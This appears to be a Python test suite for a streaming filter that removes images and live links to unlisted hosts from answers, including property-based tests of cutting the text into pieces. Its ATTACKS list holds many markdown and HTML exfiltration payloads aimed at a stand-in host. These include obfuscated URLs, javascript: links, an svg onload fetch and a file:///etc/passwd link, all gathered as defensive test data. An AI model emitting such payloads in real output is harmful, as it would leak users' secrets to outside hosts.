"""No answer holds an image or a live link to an unknown host, in any form, wherever its pieces are cut."""

import time
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graph.links.allowlist import HostAllowlist, host_of
from graph.links.filter import LinkFilter, with_omissions
from graph.links.markdown_code import LONGEST
from tests.rendering import OWN, Reading, read_as_people_do

HOSTS = HostAllowlist([OWN, "127.0.0.1:8000", "*.wiki.example.com"])


def clean(text: str, hosts: HostAllowlist = HOSTS) -> str:
    return LinkFilter(hosts).clean(text)


def in_pieces(text: str, cuts: list[int]) -> str:
    """Let the text out in pieces that end at the cuts."""
    out, begin, said = LinkFilter(HOSTS), 0, ""
    for cut in [*sorted(cuts), len(text)]:
        said += out.feed(text[begin:cut])
        begin = cut
    return said + out.end()


def assert_inert(text: str) -> None:
    seen = read_as_people_do(text)
    assert seen == Reading(), text


AWAY = "evil.example/x?d=SECRET"
ATTACKS = [
    f"![a](https://{AWAY})",
    f"see ![a](https://{AWAY} 'title') there",
    f"![](<https://{AWAY}>)",
    f"![a\nb](\nhttps://{AWAY}\n)",
    f"![a][r]\n\n[r]: https://{AWAY}\n",
    f"![r]\n\n[r]:\n  <https://{AWAY}> 'x'\n",
    f"> ![r]\n>\n> [r]:\n> https://{AWAY}\n",
    f"[a](https://{AWAY})",
    f"[a](//{AWAY})",
    f"[a](/\\{AWAY})",
    f"[a](\\/\\/{AWAY})",
    f"[a](https:\\/\\/{AWAY})",
    f"[a](https:{AWAY})",
    f"[a](https:/{AWAY})",
    f"[a](HTTPS://{AWAY})",
    f"[a](h&#116;tps&colon;//{AWAY})",
    f"[a](&#x2f;/{AWAY})",
    f"[a](https://{OWN}@{AWAY})",
    f"[a](https://{OWN}.{AWAY})",
    f"[a](https://{OWN}\\@{AWAY})",
    f"[a](http://{OWN}:22/{AWAY})",
    f"[a](ftp://{OWN}/{AWAY})",
    "[a](javascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](JAVASCRIPT&colon;alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html;base64,SECRET)",
    "![a](data:image/png;base64,SECRET)",
    "[a](file:///etc/passwd)",
    f"[a](mailto:a@evil.example?body=SECRET {AWAY})",
    f"[[a]](https://{AWAY})",
    f"[![a](https://{AWAY})](https://{AWAY})",
    f"[`]`](https://{AWAY})",
    f"<https://{AWAY}>",
    "<javascript:alert(1)>",
    f"https://{AWAY}",
    "http://[2001:db8::1]/x?d=SECRET",
    "see https://[::ffff:192.0.2.1]:8000/SECRET, please",
    "http://[r]: SECRET.example",
    f"drive://https://{AWAY}",
    f"https://{OWN}/)https://{AWAY}",
    f"[a](https://{OWN}/)https://{AWAY}",
    f"](![a](https://{AWAY}))",
    f"xhttps://{AWAY}",
    f"(https://{AWAY})",
    f"**https://{AWAY}**",
    f"www.{AWAY}",
    f"看https://{AWAY}。",
    f"请看[这里](https://{AWAY})，谢谢",
    f"<img src=https://{AWAY}>",
    f"<IMG SRC='//{AWAY}' />",
    f"<img\nsrc=//{AWAY}>",
    f"<img alt='>' src=//{AWAY}>",
    f"<svg><image href=//{AWAY} /></svg>",
    f"<picture><source srcset='/a 1x, //{AWAY} 2x'></picture>",
    f"<a href=https://{AWAY}>x</a>",
    f"<a title='>' href='//{AWAY}'>x</a>",
    f"<a href='//ev\til.example/{AWAY}'>x</a>",
    f"<a href='&#104;ttps://{AWAY}'>x</a>",
    f"<a\nhref='//{AWAY}'>x</a>",
    f"<b x='<a' y><a href=//{AWAY}>",
    f"<div style='background:url(//{AWAY})'>",
    f"<div style='background:\\75rl(//{AWAY})'>",
    f"<iframe src=//{AWAY}></iframe>",
    f"<link rel=stylesheet href=//{AWAY}>",
    f"<base href=//{AWAY}>",
    f"<meta http-equiv=refresh content='0;url=//{AWAY}'>",
    f"<!-- x --><img src=//{AWAY}>",
    f"`code` ![a](https://{AWAY})",
    f"| a |\n|---|\n| ![a](https://{AWAY}) |\n",
    f"- ![a](https://{AWAY})\n",
    f"!![a](https://{AWAY})",
    f"! ![a](https://{AWAY})",
    f"\\![a](https://{AWAY})",
    "mailto:!&#91;x&#93;(http://h/SECRET)",
    "mailto:&#60;img src=//evil.example/SECRET&#62;",
    f"` ` ` https://{AWAY}",
    f"a ` b\n`https://{AWAY}`",
    f"| ` | https://{AWAY} | ` |\n|---|---|---|\n| `x | https://{AWAY} | y` |\n",
    f"- ```\n  ```\n![a](https://{AWAY})\n```\n",
    f"  ```\n ```\n![a](https://{AWAY})\n",
    f"> ```\n![a](https://{AWAY})\n> ```",
    f"1. ~~~\n   ~~~\n<img src=//{AWAY}>\n~~~\n",
    f"~~~ https://{AWAY}\nx\n~~~",
    f"<b>\n`<img src=//{AWAY}>`\n</b>",
    f"<pre>\n```\n<img src=//{AWAY}>\n```\n",
    f"<!--\n```\n--><img src=//{AWAY}>\n```\n",
    f"a\r```\r\r![a](https://{AWAY})\r```",
    f"\\``https://{AWAY}`",
    f"`a\\`https://{AWAY}`",
    f"[a](https://{OWN}/x 'https://{AWAY}')",
    f"[https://{OWN}/](javascript:alert(1))",
    f"https://{OWN}\u3002evil.com/x?d=SECRET",
    f"https://{OWN}\uff0eevil.com/x?d=SECRET",
    f"https://{OWN}).evil.com/x?d=SECRET",
    f"[a](/\u200b/{AWAY})",
    f"[a](http:\u200b//{AWAY})",
    f"[a](\u202ehttps://{AWAY})",
    f"\u202ehttps://{AWAY}\u202c",
    f"[a](\x01//{AWAY})",
    f"[a][ ]\n\n[ ]: https://{AWAY}",
    f"[a]\n\n[a]:\nhttps://{AWAY} 'x'",
    f"<svg/onload=fetch('//{AWAY}')>",
    f"<math><mtext><img src=//{AWAY}></mtext></math>",
    f"<a\u00a0href=//{AWAY}>x</a>",
    "evil.com/x?d=SECRET",
    "SECRET.evil.com",
    *(f"{'_' * 300}{address}" for address in (f"www.{AWAY}", "mailto:bob@evil.com?body=SECRET", "evil.com/SECRET")),
    f"{'+' * 70}evil.com/SECRET",
    f"{'a.' * 12}evil.com/SECRET",
    "почта.com/SECRET evilé.com/SECRET SECRET.почта.рф/x",
    f"www\\.{AWAY} evil\\.com/SECRET mailto\\:bob@evil.com?body=SECRET",
    f"w&#119;w.{AWAY} evil&period;com/SECRET m&#x61;ilto:bob@evil.com?body=SECRET",
    f"<https://{OWN}/ https://{AWAY}>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_leads_away_and_no_image_is_shown(text: str) -> None:
    assert_inert(clean(text))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_filtered_text_stays_as_it_is(text: str) -> None:
    assert clean(clean(text)) == clean(text)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_stream_of_single_characters_says_the_same(text: str) -> None:
    assert in_pieces(text, list(range(len(text)))) == clean(text)


@pytest.mark.parametrize("text", [text for text in ATTACKS if len(text) < 60])
def test_two_pieces_cut_anywhere_say_the_same(text: str) -> None:
    assert {in_pieces(text, [cut]) for cut in range(len(text))} == {clean(text)}


def test_the_oracle_of_these_tests_sees_what_is_not_cleaned() -> None:
    plain = ("[a](https://evil.example)", "https://evil.example", "<a href='//evil.example'>", "<https://evil.example>")
    assert all(read_as_people_do(text).away for text in plain)
    assert read_as_people_do("![a](/x)").elements == ["img"]
    assert read_as_people_do("<div style='background:url(//evil.example)'>").away


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Plain words, 30 % of them: yes! See [1] and [2].",
        "纯文字：好的！见 [1]。“引用”",
        f"[a](https://{OWN}/f/1?version=2#page=3) and https://{OWN}/f/1. (https://{OWN}/f/1) **https://{OWN}/f/1**",
        f"见 https://{OWN}/f/1。再见 https://{OWN}/文件",
        "[a](http://127.0.0.1:8000/f/1)",
        "[a](https://de.wiki.example.com/x)",
        "[a](/f/1) [b](#top) [c](drive://files/1) drive://files/1",
        f"<https://{OWN}/f/1>",
        "a < b > c, x <= y, 1<2",
        f"1\\. It&#39;s {'-' * 300} 用.NET开发",
        "<b>bold</b>, line<br>, H<sub>2</sub>O",
        "write to bob@example.com",
        "README.md, report.v2.md, main.py and 3.5 of e.g. this",
        "f[i](x) [Note]: Important: read it\nratio 3:4, at 10:30, C:\\temp, a/b//c, and/or",
        "- [ ] open\n- [x] done\n\n```python\nx[0]: int = 5 // 2\n```\n",
        "```html\n<img src='http://192.168.1.1/x.png'>\n```\nand `curl http://localhost:8000`\n",
        "1. Run\n   ```sh\n   curl http://localhost:8000\n   ```\n2. Done\n",
        "The handbook says “16 weeks” [1].\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "🙂 مرحبا [1]",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("the router is http://192.168.1.1.", "the router is `http://192.168.1.1`."),
        ("see [it](https://evil.example/a?b=c).", "see [it] (`https://evil.example/a?b=c`)."),
        ("![a](https://evil.example/a.png)", "[a] (`https://evil.example/a.png`)"),
        ("<img src='https://evil.example/a.png'>", "`<img src='https://evil.example/a.png'>`"),
        ("List<String>", "List`<String>`"),
        (
            "见[手册](https://evil.example/a)和www.evil.example。",
            "见[手册] (`https://evil.example/a`)和`www.evil.example`。",
        ),
        ("https://en.example.org/Rome_(city) is", "`https://en.example.org/Rome_(city)` is"),
        ("see example.com/login", "see `example.com/login`"),
        ("an open ` mark, then http://a.example", "an open ` mark, then ``http://a.example``"),
        ("javascript:alert(1) is [bad](javascript:alert(1))", "javascript:alert(1) is [bad] (javascript:alert(1))"),
        ("mailto:bob@example.com?body=SECRET", "`mailto:bob@example.com?body=SECRET`"),
    ],
)
def test_an_address_outside_the_list_is_shown_in_full_as_inert_text(text: str, shown: str) -> None:
    assert clean(text) == shown


def test_an_address_that_the_person_wrote_may_be_repeated_and_nothing_added_to_it() -> None:
    asked = HOSTS.with_addresses_in("总结 https://news.example.org/a?b=1。thanks")
    for text in (
        "[a](https://news.example.org/a?b=1)",
        "https://news.example.org/a?b=1.",
        "<https://news.example.org/a?b=1>",
    ):
        assert clean(text, asked) == text
    assert clean("![a](https://news.example.org/a?b=1)", asked) == "[a](https://news.example.org/a?b=1)"
    for added in ("&d=SECRET", "/SECRET", "，SECRET"):
        assert read_as_people_do(f"https://news.example.org/a?b=1{added}").away
        assert_inert(clean(f"https://news.example.org/a?b=1{added}", asked))
        assert_inert(clean(f"[a](https://news.example.org/a?b=1{added})", asked))


def test_what_is_too_long_to_be_waited_for_is_broken_up_and_still_comes() -> None:
    text = f"[a]({'x' * LONGEST}) and <i {'y' * LONGEST} end"
    said = in_pieces(text, list(range(0, len(text), 7)))
    assert "](" not in said
    assert said.endswith(" end")
    assert_inert(in_pieces(f"[a](https://evil.example/{'x' * 2 * LONGEST})", list(range(0, 4000, 3))))


@pytest.mark.parametrize("beginning", ["[", "[a](", "`", "<a ", "http://", "](", "]: ", "www.", "a" * 300, "~~~ "])
def test_no_beginning_holds_a_stream_back_for_ever(beginning: str) -> None:
    out = LinkFilter(HOSTS)
    said = out.feed(beginning) + "".join(out.feed("x") for _ in range(3 * LONGEST))
    assert len(said) > 2 * LONGEST - 300


def test_no_more_than_a_word_of_plain_text_is_held_back() -> None:
    out = LinkFilter(HOSTS)
    words = ["Every", " parent", " may", " take", " 16", " weeks", ".", " 每位", "家长", "\n\n", "- yes"]
    said = [out.feed(word) for word in words]
    assert said[:7] == ["", "Every ", "parent ", "may ", "take ", "16 ", ""]
    assert said[7:] == ["weeks. 每位", "家长", "\n\n", "- "]
    assert out.end() == "yes"


def test_plain_text_passes_quickly() -> None:
    out, words = LinkFilter(HOSTS), [" word", " of", " text", " without", " links"] * 4_000
    begun = time.perf_counter()
    for word in words:
        out.feed(word)
    assert time.perf_counter() - begun < 1  # 50 µs each; it takes about one


@pytest.mark.parametrize(
    "part", ["http://a ", "`", "<", "[", "](", "]: ", "a.", "<a ", "&", "![", "~~~\n", "w", "www.", "//"]
)
def test_a_hostile_text_takes_no_longer_than_its_length(part: str) -> None:
    begun = time.perf_counter()
    clean(part * (100_000 // len(part)))
    assert time.perf_counter() - begun < 10


def test_the_host_of_an_address_has_its_port() -> None:
    assert host_of("http://127.0.0.1:8000") == "127.0.0.1:8000"
    assert host_of("https://drive.example.com/x") == "drive.example.com"


PARTS = st.sampled_from(
    [
        *"![]()<>:/\\&;\"'=#\n \t.?@`*~|-_+%{}^",
        *("http", "https", "://", "//", "www.", "&colon;", "&#58;", "&sol;", "javascript:", "drive://", OWN, "mailto:"),
        *(
            "![",
            "](",
            "]:",
            "[r]: ",
            "<img src=",
            "<a href=",
            "<b>",
            "evil.example",
            "a",
            "x",
            "中",
            "SECRET",
            "evil.com",
        ),
        *("```", "~~~", "\n```\n", "\n\n", "\r", "\r\n", "``", "  ", "    ", "- ", "1. ", "> ", "\n  ```\n", "|---|"),
        *("&#46;", "&#119;", "&period;", "\\.", "é", ".рф", ".com", "_" * 260, "+" * 70),
        *("&#91;", "&#93;", "&lt;", "&#33;", "\u200b", "\u202e", "\u3002", "\uff0e", "\x00", "\x0c", "\u2028", "\xa0"),
    ]
)


def pieces() -> Iterator[st.SearchStrategy[str]]:
    yield st.lists(PARTS, max_size=25).map("".join)
    yield st.lists(st.sampled_from(ATTACKS) | PARTS, max_size=8).map("".join)


TEXTS = st.one_of(*pieces())


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 300), max_size=12))
def test_it_does_not_matter_where_a_text_is_cut(text: str, cuts: list[int]) -> None:
    assert in_pieces(text, [min(cut, len(text)) for cut in cuts]) == clean(text)


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_however_it_is_put_together_nothing_leads_away(text: str) -> None:
    assert_inert(clean(text))


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_filtering_again_changes_nothing(text: str) -> None:
    assert clean(clean(text)) == clean(text)


@settings(max_examples=300, deadline=None)
@given(TEXTS, TEXTS)
def test_nothing_is_made_of_two_texts_that_clients_show_as_one(first: str, second: str) -> None:
    out = LinkFilter(HOSTS)
    said = out.feed(first) + out.end()
    said += out.feed("\n\n" + second) + out.end()
    assert_inert(said)


def test_a_quotation_leaves_out_what_is_inert() -> None:
    said = clean("It lasts [12 weeks](https://evil.example/x), see https://evil.example/y.")
    assert with_omissions(said) == "It lasts [12 weeks] …, see …."
    assert with_omissions("Nothing (at all) of `this` was an address.") == "Nothing (at all) of `this` was an address."
